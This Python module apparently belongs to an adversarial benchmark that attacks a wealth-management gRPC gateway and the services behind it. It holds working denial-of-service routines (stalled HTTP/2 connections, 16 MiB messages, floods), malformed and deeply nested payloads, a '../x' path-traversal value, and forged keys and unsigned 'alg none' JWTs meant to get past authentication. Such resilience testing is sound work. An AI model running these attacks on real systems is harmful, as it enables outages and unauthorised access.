"""Attacks over gRPC, as ``rest_attacks``: at the door, and at the services behind it that no stranger should reach."""

import asyncio
import contextlib
import json
import secrets
from base64 import urlsafe_b64encode
from collections import Counter
from collections.abc import AsyncIterator, Callable, Sequence
from typing import Any

import grpc.aio
from wealth.converter.v1 import converter_pb2
from wealth.portfolio.v1 import portfolio_pb2

from benchmarks.adversary.target import PEERS, Target

MIB = 1024 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
OPEN_METHODS = ("/grpc.health.v1.Health/Check", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
CREATE_TASK = "/wealth.portfolio.v1.PortfolioService/CreateTask"
GET_TASK = "/wealth.portfolio.v1.PortfolioService/GetTask"
CREATE_TRAINING = "/wealth.converter.v1.ConverterService/CreateTraining"
LIST_FILES = "/wealth.storage.v1.StorageService/ListFiles"
Metadata = Sequence[tuple[str, str]]
Call = tuple[str, bytes, Metadata]


@contextlib.asynccontextmanager
async def channel_to(address: str) -> AsyncIterator[grpc.aio.Channel]:
    """A connection of its own."""
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(address, options=options) as channel:
        yield channel


async def repeat(
    address: str, until_s: float, calls: Sequence[Call], counts: Counter[str], *, at_once: int = 1
) -> None:
    """Makes calls in turn, some at once, until the time is over."""
    loop = asyncio.get_running_loop()
    async with channel_to(address) as channel:
        methods: dict[str, Any] = {path: channel.unary_unary(path) for path, _, _ in calls}

        async def go_on(start: int) -> None:
            number = start
            while (left_s := until_s - loop.time()) > 0:
                path, request, metadata = calls[number % len(calls)]
                call = methods[path](request, metadata=metadata, timeout=left_s)
                counts[(await call.code()).name] += 1
                number += 1

        async with asyncio.TaskGroup() as group:
            for start in range(at_once):
                group.create_task(go_on(start))


async def stall(target: Target, until_s: float, counts: Counter[str]) -> None:
    """Connections that say that they speak HTTP/2 and no more, and calls whose message never comes."""
    host, _, port = target.grpc.rpartition(":")
    loop = asyncio.get_running_loop()

    async def hold(peer: str) -> None:
        while (left_s := until_s - loop.time()) > 0:
            with contextlib.suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(peer, 0))
                counts["held"] += 1
                writer.write(PREFACE)
                async with asyncio.timeout(left_s):
                    while await reader.read(65_536):
                        pass
                writer.transport.abort()
            await asyncio.sleep(0.1)

    async def never_send() -> None:
        async with channel_to(target.grpc) as channel:
            method: Any = channel.stream_unary(CREATE_TASK)
            call = method(metadata=[("x-api-key", target.key)], timeout=max(0.1, until_s - loop.time()))
            counts[(await call.code()).name] += 1

    async with asyncio.TaskGroup() as group:
        for number in range(120):
            group.create_task(hold(PEERS[number % len(PEERS)]))
        for _ in range(8):
            group.create_task(never_send())


async def oversize(target: Target, until_s: float, counts: Counter[str]) -> None:
    """Messages of 16 MiB without a key, to methods that ask for one and to those that do not."""
    body = b"\x0a\x80\x80\x80\x08" + b"x" * (16 * MIB)
    async with asyncio.TaskGroup() as group:
        for path in (*OPEN_METHODS, CREATE_TASK, LIST_FILES):
            group.create_task(repeat(target.grpc, until_s, [(path, body, ())], counts))


async def poison(target: Target, until_s: float, counts: Counter[str]) -> None:
    """What is no message, and messages of more entries than anybody reads, with a key."""
    key = (("x-api-key", target.key),)
    entry = converter_pb2.CreateTrainingRequest(column_instructions={"k123456": "x"}).SerializeToString()
    named = converter_pb2.CreateTrainingRequest(user_id=target.user, title="t").SerializeToString()
    deep = portfolio_pb2.CreateTaskRequest(username=target.user, payloads_json=["[" * 100_000]).SerializeToString()
    calls = [
        (CREATE_TRAINING, named + entry * 900_000, key),
        (CREATE_TASK, b"\xff" * 100_000, key),
        (CREATE_TASK, deep, key),
        (GET_TASK, portfolio_pb2.GetTaskRequest(task_id="../x").SerializeToString(), key),
    ]
    await repeat(target.grpc, until_s, calls, counts, at_once=2)


async def flood(target: Target, until_s: float, counts: Counter[str]) -> None:
    """As many calls as a tenant's clients can send, far above its rate."""
    call = (GET_TASK, portfolio_pb2.GetTaskRequest(task_id="t").SerializeToString(), (("x-api-key", target.key),))
    async with asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(repeat(target.grpc, until_s, [call], counts, at_once=4))


def _part(fields: dict[str, Any]) -> str:
    return urlsafe_b64encode(json.dumps(fields).encode()).decode().rstrip("=")


async def forge(target: Target, until_s: float, counts: Counter[str]) -> None:
    """Keys that nobody gave out at the door; service tokens that nobody signed at the services."""
    request = portfolio_pb2.GetTaskRequest(task_id="t").SerializeToString()
    guess = f"{target.key.partition('.')[0]}.{secrets.token_urlsafe(32)}"
    claims = {
        "iss": "gateway", "aud": "portfolio", "method": GET_TASK, "sub": "x", "tenant": "victim", "users": ["*"],
        "scopes": ["portfolio"], "iat": 1, "exp": 4_000_000_000,
    }  # fmt: skip
    token = f"{_part({'alg': 'none'})}.{_part(claims)}."
    at_the_door = [(GET_TASK, request, (("x-api-key", guess),)), (GET_TASK, request, (("authorization", token),))]
    behind = [(GET_TASK, request, (("authorization", f"Bearer {token}"),)), (LIST_FILES, b"", ())]
    async with asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(repeat(target.grpc, until_s, at_the_door, counts, at_once=2))
        for address in target.services.values():
            group.create_task(repeat(address, until_s, behind, counts))


ATTACKS: dict[str, Callable[[Target, float, Counter[str]], object]] = {
    "grpc stalled": stall,
    "grpc oversized": oversize,
    "grpc poisoned": poison,
    "grpc flooding": flood,
    "grpc forging": forge,
}
